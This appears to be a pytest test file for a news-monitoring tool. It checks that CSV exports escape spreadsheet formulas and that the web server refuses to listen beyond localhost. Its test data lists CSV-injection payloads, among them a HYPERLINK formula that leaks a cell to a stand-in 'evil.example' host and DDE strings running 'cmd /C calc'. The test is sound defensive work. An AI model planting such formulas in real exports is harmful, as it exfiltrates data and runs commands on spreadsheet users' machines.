"""Exports and serving (issue 18): no formula reaches a spreadsheet from any CSV newsmon writes
(search, counts, Datasette), and `serve` does not open the database to the network without a login."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from factories import article, make_db

from newsmon.cli import cli
from newsmon.shell.output import render_rows

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(text: str, expected_titles: int) -> None:
    values = cells(text)
    assert not [v for v in values if v.startswith(DANGEROUS)], values
    assert sum(v.startswith("'") and v[1:] in FORMULAS for v in values) == expected_titles


@pytest.fixture(scope="module")
def db_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("export") / "export.db"
    make_db(path, [
        article(f"В Омске открыли кризисный центр для мам с детьми, сообщение {n}.", title=title,
                published="2025-10-0" + str(n + 1), source="omsk", regions=["RU-OMS"],
                orgs=[title])
        for n, title in enumerate(FORMULAS)
    ]).conn.close()
    return path


# --- the CLI's CSV -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_escaped(value):
    from newsmon.shell.output import escape_formula

    assert escape_formula(value) == "'" + value
    assert cells(render_rows([{"title": value}], "csv")) == ["\ufeffЗаголовок", "'" + value]


@pytest.mark.parametrize("value", [-5, 3.5, "-5", "+7", "-0.25", "Омск", "", None, "e=mc2"])
def test_numbers_and_plain_text_are_left_alone(value):
    from newsmon.shell.output import escape_formula

    assert escape_formula(value) == value


def test_search_csv_escapes_formula_titles(db_path):
    result = CliRunner().invoke(cli, ["search", "кризисный центр", "--format", "csv",
                                      "--db", str(db_path)])
    assert result.exit_code == 0, result.output
    assert_no_formula(result.stdout, len(FORMULAS))


def test_counts_csv_escapes_formula_names(db_path):
    result = CliRunner().invoke(cli, ["counts", "--month", "2025-10", "--by", "org",
                                      "--format", "csv", "--db", str(db_path)])
    assert result.exit_code == 0, result.output
    assert_no_formula(result.stdout, len(FORMULAS))


def test_json_keeps_the_original_text(db_path):
    import json

    result = CliRunner().invoke(cli, ["search", "кризисный центр", "--format", "json",
                                      "--db", str(db_path)])
    assert {r["title"] for r in json.loads(result.stdout)} == set(FORMULAS)


# --- Datasette's CSV -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def client(db_path):
    from datasette.utils.testing import TestClient

    from newsmon.commands.serve import build_datasette

    return TestClient(build_datasette(db_path, allow_sql=True))  # arbitrary SQL is opt-in


@pytest.mark.parametrize(
    "path",
    [
        "/export/articles.csv?_col=title",
        "/export/articles.csv?_col=title&_stream=on&_size=2",
        "/export/articles.csv?_col=title&_dl=1",
        "/export.csv?sql=select+title,+text+from+articles",
        "/export.csv?sql=select+title+from+articles&_stream=on",
    ],
)
def test_datasette_csv_escapes_formula_cells(client, path):
    response = client.get(path)
    assert response.status == 200, response.text
    assert_no_formula(response.text, len(FORMULAS))


def test_datasette_csv_keeps_multiline_cells_and_commas(client):
    response = client.get("/export.csv?sql=select+'a,b'+||+char(10)+||+'=c'+as+x,+'=d'+as+y")
    assert response.status == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows == [["x", "y"], ["a,b\n=c", "'=d"]]


def test_datasette_json_is_untouched(client):
    import json

    response = client.get("/export/articles.json?_col=title&_shape=array")
    assert {r["title"] for r in json.loads(response.text)} == set(FORMULAS)


# --- serve beyond localhost ----------------------------------------------------------------------


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.10", "newsmon.example.org"])
def test_serve_refuses_to_listen_beyond_localhost(db_path, host):
    result = CliRunner().invoke(cli, ["serve", "--host", host, "--port", "0",
                                      "--db", str(db_path)])
    assert result.exit_code == 2, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and host in lines[0] and "127.0.0.1" in lines[0]
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    ("host", "local"),
    [("127.0.0.1", True), ("localhost", True), ("::1", True), ("127.0.0.2", True),
     ("0.0.0.0", False), ("::", False), ("10.0.0.1", False), ("example.org", False)],
)
def test_loopback_hosts(host, local):
    from newsmon.commands.serve import is_loopback

    assert is_loopback(host) is local
